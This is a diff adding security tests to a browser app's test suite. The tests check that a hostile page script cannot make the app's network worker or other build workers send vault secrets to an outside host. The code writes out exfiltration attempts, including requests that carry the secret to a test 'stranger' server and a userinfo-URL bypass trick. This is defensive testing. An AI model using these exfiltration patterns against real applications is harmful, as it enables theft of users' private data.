@@ -1,10 +1,13 @@
+import { readdir, readFile } from 'node:fs/promises';
 import { createServer, type IncomingMessage } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import type { Page } from 'playwright';
 import { expect, it, onTestFinished } from 'vitest';
 import { serveSite } from '../scripts/steps/static-server.mjs';
 import { button } from './harness/assistant.ts';
+import { makePdf } from './harness/make-pdf.ts';
 import { startLatent } from './harness.ts';
 
 const DIST = process.env.LATENT_DIST ?? fileURLToPath(new URL('../dist', import.meta.url));
@@ -158,6 +161,161 @@ it('stops scripts of the page from reaching another program by any request, link
   expect(otherProgram.seen).toEqual([]);
   expect(page.url().replace(/#.*/u, '')).toBe(before.replace(/#.*/u, ''));
   expect(await page.evaluate(() => window.latent.status().vault)).toBe('vault');
+});
+
+it('sends nothing for a script that starts a network worker of its own, but to a host in the settings, and lists that', async () => {
+  const latent = await startLatent({ vault: { 'Door.md': `# Door\n\n${SECRET}\n` }, isKeptForLater: true });
+  await latent.openVault();
+  const { page } = latent;
+  const [stranger, mine] = [await startOtherProgram(), await startOtherProgram()];
+  for (const { origin } of [stranger, mine]) latent.watch.allowOrigin(origin);
+  await page.evaluate(
+    (baseUrl) => window.latent.configure({ provider: 'openai-compatible', baseUrl, model: 'm' }),
+    `${mine.origin}/v1`,
+  );
+  await button(page, 'Nothing sent: nothing has left this browser').waitFor();
+  const [file] = (await readdir(join(DIST, 'network'))).filter((name) => name.startsWith('network.worker'));
+
+  /** As such a script would: each answer that the worker may wait for is given, in the present form and an earlier one. */
+  const attack = (origin: string, init: object) =>
+    page.evaluate(
+      async ([worker, to, secret, request]) => {
+        const own = new Worker(`./network/${worker}`, { type: 'module', name: 'latent-network' });
+        own.onmessage = ({ data }: MessageEvent<{ planned?: { id: string } }>) => {
+          for (const type of ['decision', 'answer']) own.postMessage({ type, id: data.planned?.id, isAllowed: true });
+        };
+        const { port1, port2 } = new MessageChannel();
+        own.postMessage({ type: 'vault', id: 'none of this name' });
+        own.postMessage({ type: 'connect', port: port2, isAllowed: true, hosts: [to] }, [port2]);
+        const body = new TextEncoder().encode(secret).buffer;
+        const answer = new Promise<string>((resolve) => {
+          port1.onmessage = ({ data }: MessageEvent<{ type: string }>) => data.type !== 'done' && resolve(data.type);
+          setTimeout(() => resolve('nothing'), 5_000);
+        });
+        port1.postMessage({
+          type: 'request',
+          id: 1,
+          about: { reason: 'answer', isAllowed: true },
+          url: `${to}/?${secret}`,
+          method: 'GET',
+          headers: [],
+          mode: 'cors',
+          cache: 'default',
+          redirect: 'follow',
+          ...('body' in request ? { ...request, body } : request),
+        });
+        const got = await answer;
+        own.terminate();
+        return got;
+      },
+      [file, origin, SECRET, init] as const,
+    );
+  for (const init of [
+    {},
+    { method: 'POST', body: true },
+    { method: 'PUT', body: true, about: { reason: 'login' } },
+    { mode: 'no-cors', method: 'POST', body: true },
+    { about: { reason: 'download' }, redirect: 'manual' },
+    { url: `${stranger.origin.replace('http://', `http://${new URL(mine.origin).host}@`)}/?${SECRET}` },
+  ])
+    expect(await attack(stranger.origin, init), JSON.stringify(init)).toBe('failed');
+  expect(stranger.seen).toEqual([]);
+  await button(page, 'Nothing sent: nothing has left this browser').waitFor();
+
+  expect(await attack(mine.origin, {})).toBe('response');
+  expect(mine.seen).toEqual([`GET /?${SECRET}`]);
+  await page.getByRole('button', { name: /1 request has left this browser/u }).waitFor();
+});
+
+interface PdfLibrary {
+  getDocument(options: object): {
+    readonly promise: Promise<{ getPage(at: number): Promise<{ getOperatorList(): Promise<{ fnArray: unknown[] }> }> }>;
+  };
+  readonly PDFWorker: new (options: object) => unknown;
+}
+
+it('sends nothing from any file of the build that is started as a worker, on a host that sends no policy', async () => {
+  const bare = await serveSite({ root: DIST, headers: {} });
+  const stranger = await startOtherProgram();
+  const latent = await startLatent({ isKeptForLater: true });
+  onTestFinished(() => bare.close());
+  latent.watch.allow(/./su);
+  for (const origin of [bare.url, stranger.origin]) latent.watch.allowOrigin(new URL(origin).origin);
+  const folders = ['', 'assets/', 'network/'];
+  const files = (
+    await Promise.all(folders.map(async (at) => (await readdir(join(DIST, at))).map((name) => at + name)))
+  ).flat();
+  const scripts = files.filter((name) => /\.m?js$/u.test(name));
+  const texts = await Promise.all(scripts.map((name) => readFile(join(DIST, name), 'utf8')));
+  const takers = scripts.filter(
+    (_, at) => /message/u.test(texts[at]!) && /\b(?:self|globalThis|addEventListener|onmessage)\b/u.test(texts[at]!),
+  );
+  expect(takers.length).toBeGreaterThan(12);
+  const find = (name: string) => scripts.find((script) => script.startsWith(name))!;
+
+  const page = await latent.context.newPage();
+  // A file that is no page of the app: without its policy, and without the service worker.
+  await page.goto(`${bare.url}licences.txt`);
+  await page.evaluate(
+    async ([names, to]) => {
+      const apply = (path: string, ...values: unknown[]) => ({
+        id: path,
+        type: 'APPLY',
+        path: [path],
+        argumentList: values.map((value) => ({ type: 'RAW', value })),
+      });
+      const model = { modelId: 'a/b', localModels: `${to}/models/`, mayDownload: true, localOnly: false };
+      const messages = [
+        {
+          type: 'init-wasm',
+          in: { wasm: { numThreads: 1, wasmPaths: { mjs: `${to}/ort.mjs`, wasm: `${to}/ort.wasm` } } },
+        },
+        { cmd: 'load', urlOrBlob: `${to}/thread.mjs`, handlers: [] },
+        apply('load', model, { RAW: 1 }),
+        apply('open', { vaultId: 'x', folder: to, model: { endpoint: { url: to, model: 'm', consent: true } } }),
+        apply('look', `${to}/backup`),
+        { type: 'connect', port: to, url: to },
+      ];
+      const roles = ['', 'ort-wasm-proxy-worker', 'em-pthread', 'latent-embed', 'latent-rerank', 'latent-generate'];
+      const started = names.flatMap((name) =>
+        roles.map((role) => new Worker(`/${name}`, { type: 'module', name: role })),
+      );
+      for (const worker of started) for (const message of messages) worker.postMessage(message);
+      await new Promise((resolve) => setTimeout(resolve, 4_000));
+      for (const worker of started) worker.terminate();
+    },
+    [takers, stranger.origin] as const,
+  );
+  // pdf.js fetches fonts, tables and decoders from wherever it is told.
+  const pdf = [...makePdf(['Words in a font that is not in the file'])];
+  await page.addScriptTag({
+    type: 'module',
+    content: `import * as library from '/${find('assets/pdf.min')}'; window.library = library;`,
+  });
+  await page.waitForFunction(() => 'library' in window);
+  const read = await page.evaluate(
+    async ([worker, bytes, to]) => {
+      const { getDocument, PDFWorker } = (window as unknown as { library: PdfLibrary }).library;
+      const port = new Worker(`/${worker}`, { type: 'module' });
+      const urls = {
+        standardFontDataUrl: `${to}/fonts/`,
+        cMapUrl: `${to}/maps/`,
+        wasmUrl: `${to}/wasm/`,
+        iccUrl: `${to}/icc/`,
+      };
+      const options = { useWorkerFetch: true, useSystemFonts: false, disableFontFace: true, cMapPacked: true };
+      const opened = await getDocument({
+        data: new Uint8Array(bytes),
+        worker: new PDFWorker({ port }),
+        ...options,
+        ...urls,
+      }).promise;
+      return (await (await opened.getPage(1)).getOperatorList()).fnArray.length;
+    },
+    [find('assets/pdf.worker'), pdf, stranger.origin] as const,
+  );
+  expect(read).toBeGreaterThan(0);
+  expect(stranger.seen).toEqual([]);
 });
 
 it('does not start inside a frame, whether or not its host sends headers', async () => {
